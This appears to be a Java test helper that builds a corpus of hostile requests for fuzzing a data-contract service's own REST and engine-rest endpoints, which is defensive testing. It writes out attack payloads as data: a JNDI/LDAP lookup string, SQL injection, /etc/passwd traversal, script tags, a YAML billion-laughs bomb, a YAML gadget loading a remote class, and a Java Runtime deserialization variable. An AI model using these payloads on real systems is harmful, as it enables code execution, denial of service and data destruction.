package org.meshgov.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;

/**
 * Generates the hostile requests: for every write endpoint a request that is refused for a reason
 * no mutation can repair (wrong user, unknown case, a step the case is not ready for, a replay),
 * mutated every way a client or an attacker could break it; plus YAML-specific attacks on
 * contract proposals, hostile ids in paths and hostile variables through {@code /engine-rest}.
 */
final class HostileCorpus {

    private static final ObjectMapper JSON = new ObjectMapper();
    static final String JSON_TYPE = "application/json";

    private static final List<String> HOSTILE_VALUES = List.of("42", "-1", "1.5e308", "1e999", "true", "false",
            "[]", "{}", "[1,2]", "{\"a\":1}", "\"\"", "\" \"", "\"\\u0000\"", "\"<script>alert(1)</script>\"",
            "\"'; DROP TABLE domainevententry;--\"", "\"../../../etc/passwd\"", "\"\\ud800\"", "\"%00\"",
            "\"${jndi:ldap://example.invalid/a}\"", "\"#{7*7}\"", "\"\\u202e\"", "\"x\\ny\"",
            "\"" + "x".repeat(300_000) + "\"", "[\"" + "y".repeat(50_000) + "\"]", "NaN", "-Infinity", "0x10",
            "'single'", "undefined");

    private static final List<String> MALFORMED = List.of("", " ", "{", "}", "[", "]", "[]", "null", "true", "0",
            "\"text\"", "{\"a\"}", "{'a':1}", "{\"a\":1,}", "{\"a\":1}{\"b\":2}", "{\"a\":1} trailing", "\u0000",
            "/* comment */{}", "{\"a\":\"unterminated}", "{\"a\":01}", "[1,,2]", "{\"a\" 1}", "{a:1}",
            "{\"a\":\"\\x41\"}", "\uFEFF{}", "{\"__proto__\":{\"admin\":true}}", "{\"constructor\":{}}",
            "<?xml version=\"1.0\"?><a/>", "a=1&b=2", "---\na: 1");

    private static final List<String> HOSTILE_IDS = List.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2f",
            "%27%3B%20DROP%20TABLE%20domainevententry%3B--", "%00", "a%0Ab", "%E2%80%AE", "%25", "%5C..%5C",
            "x".repeat(5000), "%F0%9F%92%A3", "%C3%28", "*", "..", "a;b=c", "%3Cscript%3E");

    private final List<HostileCase> cases = new ArrayList<>();

    static List<HostileCase> build(String contractId, String grantId, Path examples) {
        HostileCorpus corpus = new HostileCorpus();
        corpus.jsonEndpoint("domain-not-admin", "mike", "POST", "/api/domains", """
                {"id":"corpus","name":"Corpus","description":"d","ownerGroup":"corpus-owners",
                 "memberGroup":"corpus-members"}""");
        corpus.jsonEndpoint("domain-exists", "admin", "POST", "/api/domains", """
                {"id":"orders","name":"Orders","description":"again","ownerGroup":"orders-owners",
                 "memberGroup":"orders-members"}""", "id");
        corpus.jsonEndpoint("incident-no-access", "sid", "POST", "/api/incidents", """
                {"contractId":"%s","version":"1.0.0","kind":"QUALITY","severity":"SEV2","title":"t",
                 "description":"d"}""".formatted(contractId));
        corpus.jsonEndpoint("incident-unknown-contract", "mike", "POST", "/api/incidents", """
                {"contractId":"no-such-contract","kind":"QUALITY","severity":"SEV2","title":"t",
                 "description":"d"}""", "contractId");
        corpus.jsonEndpoint("access-ends-in-past", "mia", "POST", "/api/access-requests", """
                {"contractId":"%s","majorVersion":1,"consumerDomain":"marketing",
                 "purpose":"weekly campaign attribution per order channel","properties":["orders.order_id"],
                 "until":"2020-01-01"}""".formatted(contractId), "until");
        corpus.jsonEndpoint("quality-other-domain", "mia", "POST", "/api/quality-results", """
                {"contractId":"%s","version":"1.0.0","runId":"run-2","runAt":"2026-11-27T06:00:00Z",
                 "results":[{"rule":"order_total_not_negative","passed":true,"measured":0}]}"""
                .formatted(contractId), "runId", "results");
        corpus.add("quality-replayed-run", "mike", "POST", "/api/quality-results", JSON_TYPE, """
                {"contractId":"%s","version":"1.0.0","runId":"run-1","runAt":"2026-11-27T06:00:00Z",
                 "results":[{"rule":"order_total_not_negative","passed":false,"measured":1}]}"""
                .formatted(contractId));
        corpus.jsonEndpoint("revoke-not-owner", "mia", "POST", "/api/access-grants/" + grantId + "/revoke", """
                {"reason":"no longer needed"}""");
        corpus.jsonEndpoint("deprecate-sunset-past", "olivia", "POST",
                "/api/contracts/" + contractId + "/versions/1.0.0/deprecation", """
                {"reason":"replaced","sunset":"2020-01-01","replacementVersion":null}""", "sunset");
        corpus.jsonEndpoint("cancel-no-deprecation", "olivia", "DELETE",
                "/api/contracts/" + contractId + "/versions/1.0.0/deprecation", """
                {"reason":"changed our minds"}""");
        corpus.jsonEndpoint("extend-no-deprecation", "olivia", "POST",
                "/api/contracts/" + contractId + "/versions/1.0.0/deprecation/extension", """
                {"sunset":"2031-01-01","reason":"more time"}""");
        corpus.jsonEndpoint("withdraw-published", "olivia", "POST",
                "/api/contracts/" + contractId + "/versions/1.0.0/withdrawal", """
                {"reason":"too late"}""");
        corpus.plain("migration-unknown-deprecation", "oscar", "POST",
                "/api/deprecations/no-such-deprecation/consumers/marketing/migration");
        corpus.plain("checkpoint-not-admin", "mike", "POST", "/api/audit/checkpoints");
        corpus.contractProposals(contractId, examples);
        corpus.hostileIds(contractId, grantId);
        corpus.engineRest(contractId);
        return corpus.cases;
    }

    /**
     * {@code stillRefusedWithout} names fields whose removal or null leaves the request refused for
     * another reason; other fields keep their value in those two mutations.
     */
    private void jsonEndpoint(String group, String user, String method, String path, String baseline,
                              String... refusalFields) {
        ObjectNode template = (ObjectNode) read(baseline);
        List<String> fields = new ArrayList<>();
        template.fieldNames().forEachRemaining(fields::add);
        for (String field : fields) {
            for (String value : HOSTILE_VALUES) {
                add(group + "/type", user, method, path, JSON_TYPE, replace(template, field, value));
            }
            add(group + "/unknown-field", user, method, path, JSON_TYPE,
                    replace(template, field + "Extra", "1"));
            add(group + "/duplicate-field", user, method, path, JSON_TYPE, duplicate(template, field));
            add(group + "/deep", user, method, path, JSON_TYPE, replace(template, field,
                    "[".repeat(5000) + "]".repeat(5000)));
            add(group + "/deep", user, method, path, JSON_TYPE, replace(template, field,
                    "{\"a\":".repeat(3000) + "1" + "}".repeat(3000)));
            cases.add(new HostileCase(group + "/invalid-utf8", user, method, path, JSON_TYPE,
                    invalidUtf8(template, field)));
        }
        String compact = template.toString();
        for (int cut = 1; cut < compact.length(); cut += Math.max(1, compact.length() / 60)) {
            add(group + "/truncated", user, method, path, JSON_TYPE, compact.substring(0, cut));
        }
        for (String malformed : MALFORMED) {
            add(group + "/malformed", user, method, path, JSON_TYPE, malformed);
        }
        for (String contentType : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/json; charset=UTF-32")) {
            add(group + "/content-type", user, method, path, contentType, compact);
        }
        add(group + "/huge", user, method, path, JSON_TYPE, "[" + "1,".repeat(1_200_000) + "1]");
        for (String field : refusalFields) {
            add(group + "/null", user, method, path, JSON_TYPE, replace(template, field, "null"));
            ObjectNode without = template.deepCopy();
            without.remove(field);
            add(group + "/missing", user, method, path, JSON_TYPE, without.toString());
        }
        add(group + "/baseline", user, method, path, JSON_TYPE, compact);
    }

    private void plain(String group, String user, String method, String path) {
        add(group + "/baseline", user, method, path, JSON_TYPE, "");
        for (String malformed : MALFORMED) {
            add(group + "/malformed", user, method, path, JSON_TYPE, malformed);
        }
    }

    private void contractProposals(String contractId, Path examples) {
        String yaml;
        try {
            yaml = Files.readString(examples.resolve("orders-v1.0.0.yaml")).replace("id: orders-placed",
                    "id: " + contractId);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        String group = "contract-yaml";
        String user = "olivia";
        String path = "/api/contracts";
        // the same version again is refused whatever else is in the document
        add(group + "/republished-version", user, "POST", path, "application/yaml", yaml);
        for (int cut = 1; cut < yaml.length(); cut += Math.max(1, yaml.length() / 300)) {
            add(group + "/truncated", user, "POST", path, "application/yaml", yaml.substring(0, cut));
        }
        StringBuilder laughs = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'k'; c++) {
            char previous = (char) (c - 1);
            laughs.append(c).append(": &").append(c).append(" [").append(("*" + previous + ",").repeat(8))
                    .append('*').append(previous).append("]\n");
        }
        add(group + "/billion-laughs", user, "POST", path, "application/yaml", laughs.toString());
        add(group + "/billion-laughs", user, "POST", path, "application/yaml",
                yaml + "\nbomb: &x [*x]\n");
        add(group + "/anchor-merge", user, "POST", path, "application/yaml",
                "base: &base {id: " + contractId + ", version: 9.9.9}\n<<: *base\napiVersion: v3.1.0\n");
        add(group + "/undefined-alias", user, "POST", path, "application/yaml", "id: *nowhere\n");
        add(group + "/java-tag", user, "POST", path, "application/yaml",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]");
        add(group + "/custom-tag", user, "POST", path, "application/yaml", "id: !Ref orders\nversion: !!int x\n");
        add(group + "/binary-tag", user, "POST", path, "application/yaml", "id: !!binary aGVsbG8=\n");
        add(group + "/deep", user, "POST", path, "application/yaml", "a: " + "[".repeat(20_000) + "]".repeat(20_000));
        add(group + "/deep", user, "POST", path, "application/yaml", "a:\n" + nestedYaml(2000));
        add(group + "/duplicate-key", user, "POST", path, "application/yaml",
                yaml.replace("version: 1.0.0", "version: 1.0.0\nversion: 7.0.0"));
        add(group + "/huge-scalar", user, "POST", path, "application/yaml",
                yaml.replace("name: Orders placed", "name: " + "z".repeat(1_100_000)));
        add(group + "/tabs", user, "POST", path, "application/yaml", yaml.replace("  ", "\t"));
        add(group + "/multi-document", user, "POST", path, "application/yaml", yaml + "\n---\n" + yaml);
        add(group + "/empty", user, "POST", path, "application/yaml", "");
        add(group + "/scalar", user, "POST", path, "application/yaml", "just a string");
        add(group + "/list", user, "POST", path, "application/yaml", "- a\n- b\n");
        add(group + "/null", user, "POST", path, "application/yaml", "~");
        byte[] bytes = yaml.getBytes(StandardCharsets.UTF_8);
        for (byte[] bad : List.of(new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xC3, 0x28},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF8, (byte) 0x88})) {
            for (int at : List.of(10, bytes.length / 2, bytes.length - 2)) {
                byte[] broken = new byte[bytes.length + bad.length];
                System.arraycopy(bytes, 0, broken, 0, at);
                System.arraycopy(bad, 0, broken, at, bad.length);
                System.arraycopy(bytes, at, broken, at + bad.length, bytes.length - at);
                cases.add(new HostileCase(group + "/invalid-utf8", user, "POST", path, "application/yaml", broken));
            }
        }
        for (String field : List.of("apiVersion", "kind", "id", "version", "status", "schema", "team", "support",
                "description")) {
            for (String value : List.of("[]", "{}", "42", "\"\"", "null", "\"v9.9.9\"", "\"../../x\"",
                    "\"nul\\0in the middle\"")) {
                if (field.equals("id") && value.startsWith("\"v")) {
                    continue; // a fine id: this would propose a new contract
                }
                add(group + "/field-" + field, user, "POST", path, "application/yaml",
                        yaml.replaceFirst("(?m)^" + field + ":.*$", field + ": " + value));
            }
        }
        ObjectNode json = (ObjectNode) readYaml(yaml);
        String compact = json.toString();
        for (int cut = 1; cut < compact.length(); cut += Math.max(1, compact.length() / 200)) {
            add("contract-json/truncated", user, "POST", path, JSON_TYPE, compact.substring(0, cut));
        }
        for (String malformed : MALFORMED) {
            add("contract-json/malformed", user, "POST", path, JSON_TYPE, malformed);
        }
        add("contract-json/republished-version", user, "POST", path, JSON_TYPE, compact);
        for (String contentType : List.of("text/plain", "application/xml", "application/octet-stream")) {
            add("contract-json/content-type", user, "POST", path, contentType, compact);
        }
    }

    private void hostileIds(String contractId, String grantId) {
        for (String id : HOSTILE_IDS) {
            add("path-ids", "olivia", "POST", "/api/contracts/" + id + "/versions/1.0.0/withdrawal", JSON_TYPE, "{}");
            add("path-ids", "olivia", "POST", "/api/contracts/" + contractId + "/versions/" + id + "/withdrawal",
                    JSON_TYPE, "{}");
            add("path-ids", "olivia", "POST", "/api/contracts/" + id + "/versions/" + id + "/deprecation", JSON_TYPE,
                    "{\"reason\":\"r\",\"sunset\":\"2031-01-01\"}");
            add("path-ids", "olivia", "DELETE", "/api/contracts/" + id + "/versions/1.0.0/deprecation", JSON_TYPE,
                    "{}");
            add("path-ids", "olivia", "POST", "/api/access-grants/" + id + "/revoke", JSON_TYPE, "{\"reason\":\"r\"}");
            add("path-ids", "oscar", "POST", "/api/deprecations/" + id + "/consumers/" + id + "/migration",
                    JSON_TYPE, "");
            add("path-ids", "admin", "POST", "/api/admin/projections/" + id + "/rebuild", JSON_TYPE, "");
            add("path-ids", "olivia", "POST", "/engine-rest/task/" + id + "/complete", JSON_TYPE,
                    "{\"variables\":{}}");
        }
    }

    private void engineRest(String contractId) {
        String path = "/engine-rest/process-definition/key/raise-incident/start";
        String[][] variables = {{"contractId", "no-such-contract"}, {"kind", "QUALITY"}, {"severity", "SEV2"},
            {"title", "t"}, {"description", "d"}};
        for (int i = 0; i < variables.length; i++) {
            for (String value : List.of("42", "true", "null", "\"" + "x".repeat(100_000) + "\"",
                    "\"'; DROP TABLE act_ru_task;--\"", "{}", "[]")) {
                StringBuilder body = new StringBuilder("{\"variables\":{");
                for (int j = 0; j < variables.length; j++) {
                    String shown = i == j ? value : "\"" + variables[j][1] + "\"";
                    body.append(j == 0 ? "" : ",").append('"').append(variables[j][0]).append("\":{\"value\":")
                            .append(shown).append(",\"type\":\"String\"}");
                }
                add("engine-rest-start", "olivia", "POST", path, JSON_TYPE, body.append("}}").toString());
            }
        }
        add("engine-rest-start", "olivia", "POST", path, JSON_TYPE, "{\"variables\":{}}");
        add("engine-rest-start", "olivia", "POST", path, JSON_TYPE,
                "{\"variables\":{\"contractId\":{\"value\":\"" + contractId + "\",\"type\":\"Object\","
                        + "\"valueInfo\":{\"objectTypeName\":\"java.lang.Runtime\","
                        + "\"serializationDataFormat\":\"application/x-java-serialized-object\"}}}}");
        add("engine-rest-start", "mike", "POST", "/engine-rest/process-definition/key/incident/start", JSON_TYPE,
                "{\"businessKey\":\"forged\",\"variables\":{}}");
        for (String malformed : MALFORMED) {
            add("engine-rest-start/malformed", "olivia", "POST", path, JSON_TYPE, malformed);
        }
    }

    private static String nestedYaml(int depth) {
        StringBuilder nested = new StringBuilder();
        for (int i = 1; i <= depth; i++) {
            nested.append(" ".repeat(i)).append("a:\n");
        }
        return nested.append(" ".repeat(depth + 1)).append("b\n").toString();
    }

    private static String replace(ObjectNode template, String field, String rawValue) {
        StringBuilder json = new StringBuilder("{");
        boolean replaced = false;
        Iterator<String> names = template.fieldNames();
        while (names.hasNext()) {
            String name = names.next();
            json.append(json.length() > 1 ? "," : "").append(quoted(name)).append(':')
                    .append(name.equals(field) ? rawValue : template.get(name).toString());
            replaced |= name.equals(field);
        }
        if (!replaced) {
            json.append(',').append(quoted(field)).append(':').append(rawValue);
        }
        return json.append('}').toString();
    }

    private static String quoted(String name) {
        return com.fasterxml.jackson.databind.node.TextNode.valueOf(name).toString();
    }

    private static String duplicate(ObjectNode template, String field) {
        String json = template.toString();
        return json.substring(0, json.length() - 1) + "," + quoted(field) + ":\"second\"}";
    }

    private static byte[] invalidUtf8(ObjectNode template, String field) {
        String marker = "INVALID-UTF8-HERE";
        byte[] bytes = replace(template, field, "\"" + marker + "\"").getBytes(StandardCharsets.UTF_8);
        String text = new String(bytes, StandardCharsets.ISO_8859_1);
        int at = text.indexOf(marker);
        byte[] broken = new byte[bytes.length - marker.length() + 2];
        System.arraycopy(bytes, 0, broken, 0, at);
        broken[at] = (byte) 0xC3;
        broken[at + 1] = (byte) 0x28;
        System.arraycopy(bytes, at + marker.length(), broken, at + 2, bytes.length - at - marker.length());
        return broken;
    }

    private void add(String group, String user, String method, String path, String contentType, String body) {
        cases.add(new HostileCase(group, user, method, path, contentType, body.getBytes(StandardCharsets.UTF_8)));
    }

    private static JsonNode read(String json) {
        try {
            return JSON.readTree(json);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static JsonNode readYaml(String yaml) {
        try {
            return new ObjectMapper(new com.fasterxml.jackson.dataformat.yaml.YAMLFactory()).readTree(yaml);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
